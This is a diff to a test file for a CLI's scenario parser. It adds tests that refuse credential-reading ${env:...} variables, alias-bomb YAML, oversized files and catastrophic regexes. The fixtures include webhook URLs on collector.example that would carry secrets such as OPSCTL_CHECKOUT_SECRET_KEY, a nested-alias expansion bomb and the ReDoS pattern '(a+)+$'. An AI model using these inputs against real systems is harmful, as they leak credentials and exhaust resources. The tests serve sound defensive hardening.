@@ -1,6 +1,9 @@
+import {mkdtempSync, rmSync, writeFileSync} from 'node:fs'
+import {tmpdir} from 'node:os'
+import {join} from 'node:path'
 import {describe, expect, it} from 'vitest'
 
-import {parseScenario, ScenarioFileError} from '../../src/runtime/scenario/parse.js'
+import {loadScenario, parseScenario, ScenarioFileError} from '../../src/runtime/scenario/parse.js'
 import {matchValue, valueAt} from '../../src/runtime/scenario/run.js'
 import {substitute} from '../../src/runtime/scenario/vars.js'
 
@@ -184,5 +187,86 @@ describe('scenario files that explain themselves', () => {
     expect(problemOf('steps:\n  - run: opsctl x --json\n    expect: {json: {a: {length: -1}}}\n').message).toMatch(
       /^flow\.yaml:3:\d+: steps\.0\.expect\.json\.a\.length: /,
     )
+  })
+})
+
+describe('scenario files that cannot leak a credential nor stall the run', () => {
+  it('refuses ${env:...} of a credential anywhere in the file, naming its line', () => {
+    for (const name of ['OPSCTL_CHECKOUT_SECRET_KEY', 'OPSCTL_CHECKOUT_PUBLIC_KEY', 'opsctl_health_session', 'MY_API_TOKEN', 'DB_PASSWORD', 'client_secret']) {
+      const error = problemOf(`name: s\nsteps:\n  - run: opsctl profile list\n  - run: opsctl webhook register --url https://collector.example/\${env:${name}}\n`)
+      expect(error.message, name).toMatch(new RegExp(`^flow\\.yaml:4:\\d+: steps\\.1: \\$\\{env:${name}\\} reads a credential; a step gets credentials from its profile`))
+    }
+
+    expect(problemOf('vars: {k: "${env:OPSCTL_CHECKOUT_SECRET_KEY|x}"}\nsteps:\n  - run: opsctl webhook register --url https://c.example/${k}\n').message).toMatch(
+      /^flow\.yaml:1:\d+: vars\.k: \$\{env:OPSCTL_CHECKOUT_SECRET_KEY\} reads a credential/,
+    )
+    expect(() => substitute('${env:OPSCTL_CHECKOUT_SECRET_KEY}', {}, {OPSCTL_CHECKOUT_SECRET_KEY: 'sk_live'})).toThrow(/reads a credential/)
+    // the same value under an innocent name is refused when the step runs
+    expect(() => substitute('${env:CHECKOUT_SK}', {}, {CHECKOUT_SK: 'sk_live_1', OPSCTL_CHECKOUT_SECRET_KEY: 'sk_live_1'})).toThrow(
+      /^\$\{env:CHECKOUT_SK\} holds the value of a credential; a step gets credentials from its profile/,
+    )
+    // other environment variables, OPSCTL_ ones included, still work
+    expect(parseScenario('steps:\n  - run: opsctl checkout get ${env:OPSCTL_PROFILE|x} ${env:HOME_TOWN|y}\n', 'f.yaml').steps).toHaveLength(1)
+  })
+
+  it('reports an unknown key and an undefined variable in one round, in line order', () => {
+    const error = problemOf(
+      'steps:\n  - run: opsctl checkout get ${nope} --json\n    expct: {exit: 0}\n  - run: opsctl x\n    save: {id: checkoutId}\n  - run: opsctl checkout get ${id} ${env:MY_TOKEN}\n',
+    )
+    expect(error.problems.map((p) => [p.line, p.message.split(':')[0]])).toEqual([
+      [2, 'steps.0'],
+      [3, 'unknown key "expct" at steps.0; expected name, run, expect, save, timeout'],
+      [6, 'steps.2'],
+    ])
+    expect(error.problems[0].message).toMatch(/variable \$\{nope\} is not defined/)
+    expect(error.problems[2].message).toMatch(/\$\{env:MY_TOKEN\} reads a credential/)
+    expect(error.message).toMatch(/^flow\.yaml:2:\d+: steps\.0: variable \$\{nope\} is not defined.* \(\+2 more problems: line 3: unknown key "expct"/)
+  })
+
+  it('refuses a step that runs a scenario or starts the sandbox, naming the line', () => {
+    for (const [run, command] of [
+      ['opsctl scenario run flow.yaml', 'scenario run'],
+      ['opsctl scenario:run other.yaml --reporter json', 'scenario run'],
+      ['opsctl sandbox start --port 0', 'sandbox start'],
+    ]) {
+      const error = problemOf(`name: s\nsteps:\n  - run: opsctl profile list\n  - run: ${run}\n`)
+      expect(error.message, run).toMatch(new RegExp(`^flow\\.yaml:4:\\d+: steps\\.1\\.run: a step may not run "opsctl ${command}"`))
+    }
+
+    expect(parseScenario('steps:\n  - run: opsctl scenario schema\n  - run: opsctl sandbox clock\n', 'f.yaml').steps).toHaveLength(2)
+  })
+
+  it('refuses a file over 1 MiB before parsing it', async () => {
+    const big = `steps:\n  - run: opsctl profile list\n# ${'x'.repeat(1024 * 1024)}\n`
+    expect(() => parseScenario(big, 'big.yaml')).toThrow(/^Scenario big\.yaml is \d+ bytes; a scenario file may have at most 1048576 \(1 MiB\)$/)
+    const dir = mkdtempSync(join(tmpdir(), 'opsctl-scenario-'))
+    try {
+      writeFileSync(join(dir, 'big.yaml'), big)
+      await expect(loadScenario(join(dir, 'big.yaml'))).rejects.toMatchObject({exitCode: 2, message: expect.stringMatching(/is \d+ bytes; a scenario file may have at most/)})
+    } finally {
+      rmSync(dir, {force: true, recursive: true})
+    }
+  })
+
+  it('refuses aliases that would expand without bound, as invalid YAML', () => {
+    const levels = ['a: &a [x, x, x, x, x, x, x, x, x]']
+    for (const [i, name] of ['b', 'c', 'd', 'e', 'f', 'g'].entries()) {
+      const previous = String.fromCodePoint(97 + i)
+      levels.push(`${name}: &${name} [${Array.from({length: 9}, () => `*${previous}`).join(', ')}]`)
+    }
+
+    const error = problemOf(`${levels.join('\n')}\nsteps:\n  - run: opsctl profile list\n`)
+    expect(error.message).toMatch(/^flow\.yaml:1:1: invalid YAML: Excessive alias count/)
+  })
+
+  it('reports a pattern that is not a regular expression at its line', () => {
+    expect(problemOf('steps:\n  - run: opsctl x --json\n    expect: {stdout: {matches: "(a"}}\n').message).toMatch(
+      /^flow\.yaml:3:\d+: steps\.0\.expect\.stdout\.matches: Invalid regular expression/,
+    )
+  })
+
+  it('stops a catastrophic pattern after its time limit with a clear failure, instead of hanging', () => {
+    expect(matchValue(`${'a'.repeat(40)}!`, {matches: '(a+)+$'}, {})).toMatch(/^\/\(a\+\)\+\$\/ took longer than 1 s to match/)
+    expect(matchValue('aaa', {matches: '(a+)+$'}, {})).toBeUndefined()
   })
 })
